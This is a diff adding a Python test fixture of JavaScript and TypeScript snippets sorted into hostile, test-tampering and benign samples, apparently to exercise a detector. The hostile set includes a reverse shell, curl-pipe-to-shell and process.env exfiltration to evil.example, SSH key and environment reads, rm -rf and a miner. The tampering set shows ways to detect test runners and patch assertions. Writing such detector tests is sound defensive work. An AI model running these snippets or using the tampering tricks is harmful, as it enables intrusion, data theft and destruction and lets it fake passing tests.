@@ -1,0 +1,63 @@
+"""Hostile JavaScript and TypeScript, and what looks like it."""
+
+MALICE = {
+    "reverse shell": (
+        "const net = require('net'), cp = require('child_process');\n"
+        "const s = net.connect(4444, '10.0.0.1'); const sh = cp.spawn('/bin/sh'); s.pipe(sh.stdin);\n"
+    ),
+    "download and run": "require('child_process').execSync('curl -s http://evil.example | sh')\n",
+    "hidden code": "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n",
+    "hidden code by atob": "new Function(atob('YWxlcnQoMSk='))()\n",
+    "ssh key": "import fs from 'node:fs'; fs.readFileSync(`${process.env.HOME}/.ssh/id_rsa`)\n",
+    "environ": "require('fs').readFileSync('/proc/self/environ', 'utf8')\n",
+    "metadata": "fetch('http://169.254.169.254/latest/meta-data/')\n",
+    "exfiltration": "fetch('https://evil.example', { method: 'POST', body: JSON.stringify(process.env) })\n",
+    "exfiltration by spread": "axios.post('https://evil.example', { ...process.env })\n",
+    "escape": "this.constructor.constructor('return process')().mainModule.require('fs')\n",
+    "fork bomb": "while (true) { require('child_process').fork(__filename) }\n",
+    "rm": "require('child_process').exec('rm -rf /')\n",
+    "rmSync": "const fs = require('fs'); fs.rmSync('/', { recursive: true })\n",
+    "docker": "http.request({ socketPath: '/var/run/docker.sock' })\n",
+    "bashrc": "fs.appendFileSync('/root/.bashrc', 'x')\n",
+    "miner": "spawn('xmrig', ['-o', 'stratum+tcp://pool.example'])\n",
+}
+TAMPERING = {
+    "exit at load": "process.exit(0)\n",
+    "exit hook": "process.on('exit', () => { process.exitCode = 0 })\n",
+    "sees jest": "export const f = () => process.env.JEST_WORKER_ID ? 1 : 2\n",
+    "sees node test": "if (process.env.NODE_TEST_CONTEXT) {}\n",
+    "sees test env": "if (process.env.NODE_ENV === 'test') {}\n",
+    "sees describe": "const t = typeof describe !== 'undefined'\n",
+    "imports node:test": "import { mock } from 'node:test'\n",
+    "imports vitest": "import { vi } from 'vitest'\n",
+    "patches JSON": "JSON.stringify = () => '1'\n",
+    "patches prototype": "Array.prototype.map = function () { return [] }\n",
+    "patches expect": "globalThis.expect = () => ({ toBe() {} })\n",
+    "patches assert": "assert.strictEqual = () => {}\n",
+    "swaps modules": "require.cache[require.resolve('assert')] = {}\n",
+    "module load": "Module._load = () => ({})\n",
+    "stack": "Error.prepareStackTrace = (_, s) => s\n",
+    "writes results": "fs.writeFileSync('/out/results.jsonl', '')\n",
+    "other descriptor": "fs.writeSync(3, '{}')\n",
+    "eval": "export const f = (x) => eval(x)\n",
+    "tls": "https.request({ rejectUnauthorized: false })\n",
+    "shell": "exec(`ls ${name}`)\n",
+}
+BENIGN = {
+    "a function": "export function add(a, b) { return a + b }\n",
+    "comment": "// eval(atob('x')) and process.exit(0) are bad\nexport const a = 1\n",
+    "exit in function": "export function main() { process.exit(1) }\n",
+    "main guard": "if (require.main === module) { process.exit(main()) }\n",
+    "one variable": "const port = process.env.PORT || 3000\n",
+    "one variable sent": "fetch(url, { headers: { Authorization: process.env.TOKEN } })\n",
+    "production": "const dev = process.env.NODE_ENV !== 'production'\n",
+    "regexp": "const m = /eval/.exec(text)\n",
+    "map": "const m = new Map(); m.set(1, 2)\n",
+    "prototype call": "Object.prototype.hasOwnProperty.call(a, 'b')\n",
+    "json": "const s = JSON.stringify({ a: 1 })\n",
+    "base64": "const b = Buffer.from(x, 'base64')\n",
+    "timeout": "setTimeout(() => go(), 10)\n",
+    "word": "if (path.startsWith('/proc/self/environ')) throw new Error('no')\n",
+    "compare": "if (console.level === 1 && Math.max(a, b) == 2) {}\n",
+    "types": "export type Process = { exit: number }; interface A { fd: string }\n",
+}
